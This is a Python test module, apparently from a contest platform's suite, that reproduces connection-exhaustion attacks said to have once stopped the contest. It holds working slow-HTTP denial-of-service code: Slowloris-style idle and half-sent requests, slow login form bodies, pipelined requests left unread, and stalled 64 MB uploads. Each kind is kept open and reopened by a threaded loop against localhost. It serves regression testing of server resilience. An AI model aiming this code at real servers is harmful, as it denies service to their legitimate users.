"""Connections of somebody who wants to stop a contest, each kind as it once did."""

from __future__ import annotations

import contextlib
import resource
import select
import socket
import threading
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from urllib.parse import urlsplit

import httpx

MB = 2**20
BITE_S = 15.0
"""After so many seconds the connections had stopped a server that does nothing about them."""


@dataclass(frozen=True)
class Kind:
    """How connections of one kind begin, and how many bytes each sends a second from then on."""

    openings: Sequence[bytes]
    count: int = 200
    bytes_per_s: int = 0


def slow_forms(url: str) -> Kind:
    """Forms of the login, each with a good CSRF cookie, that say they are large and never come."""
    cookie = httpx.get(f"{url}/login").cookies["csrftoken"]
    head = f"POST /login HTTP/1.1\r\nHost: localhost\r\nCookie: csrftoken={cookie}\r\nContent-Length: "
    kind = "\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nname="
    return Kind([f"{head}900000{kind}".encode(), f"{head}50000{kind}".encode()], bytes_per_s=1)


def never_reading(count: int = 40) -> Kind:
    """Many requests behind one another for a file, whose answers nobody reads; 40 were enough."""
    return Kind([1_200 * b"GET /static/style.css HTTP/1.1\r\nHost: localhost\r\n\r\n"], count=count)


def idle() -> Kind:
    """More connections than a server may have, without a request or with half of one."""
    return Kind([b"", b"GET / HTTP/1.1\r\nHost: localhost\r\nX: "], count=1_050)


def large_bodies(secrets: Sequence[str]) -> Kind:
    """Uploads of 64 MB, some by teams, some by nobody, that stop after the first megabyte."""
    lines = [f"Authorization: Bearer {secret}\r\n" for secret in (*secrets, "wrong")]
    openings = [
        f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: {64 * MB}\r\n{line}"
        f"Idempotency-Key: large\r\nX-File-Name: a.csv\r\n\r\n".encode()
        for path in ("/api/v1/uploads/obfuscated/1", "/team/uploads/obfuscated/1", "/team/targets/archive")
        for line in lines
    ]
    return Kind([opening + MB * b"x" for opening in openings], bytes_per_s=64)


@contextmanager
def attack(url: str, kind: Kind) -> Iterator[None]:
    """Keep so many connections of a kind open; one that the server ends is opened again."""
    _allow_files(4 * kind.count)
    stop, are_open = threading.Event(), threading.Event()
    work = threading.Thread(target=_keep_open, args=(urlsplit(url), kind, stop, are_open))
    work.start()
    try:
        assert are_open.wait(120)
        yield
    finally:
        stop.set()
        work.join()


def _keep_open(address: object, kind: Kind, stop: threading.Event, are_open: threading.Event) -> None:
    lines = [_Line(address, kind.openings[number % len(kind.openings)]) for number in range(kind.count)]
    while not stop.is_set():
        for line in lines:
            line.go_on(kind.bytes_per_s)
        are_open.set()
        stop.wait(1)
    for line in lines:
        line.close()


class _Line:
    """One connection, and what is still to be sent over it."""

    def __init__(self, address: object, opening: bytes) -> None:
        self._address, self._opening = address, opening
        self._socket: socket.socket | None = None
        self._left = b""

    def go_on(self, count: int) -> None:
        """Open it if it is not, and send what it takes without waiting."""
        with contextlib.suppress(OSError):
            if self._socket is None:
                self._open()
            self._left += count * b"x"
            self._left = self._left[self._socket.send(self._left) :] if self._left else b""
            return self._look()
        return None

    def _open(self) -> None:
        self._socket = socket.socket()
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
        self._socket.settimeout(10)
        self._socket.connect((self._address.hostname, self._address.port))
        self._socket.setblocking(False)
        self._left = self._opening

    def _look(self) -> None:
        """Notice that the server has ended it; what it says is not read."""
        poll = select.poll()
        poll.register(self._socket, select.POLLRDHUP)
        if poll.poll(0):
            self.close()

    def close(self) -> None:
        """Close it."""
        if self._socket is not None:
            self._socket.close()
            self._socket = None


def _allow_files(wanted: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted if hard < 0 else min(wanted, hard), hard))


KINDS: dict[str, Callable[[str], Kind]] = {
    "slow forms": slow_forms,
    "never reading": lambda url: never_reading(),
    "idle": lambda url: idle(),
}
TWO_HUNDRED = KINDS | {"never reading": lambda url: never_reading(200)}
"""At least so many connections of each kind."""
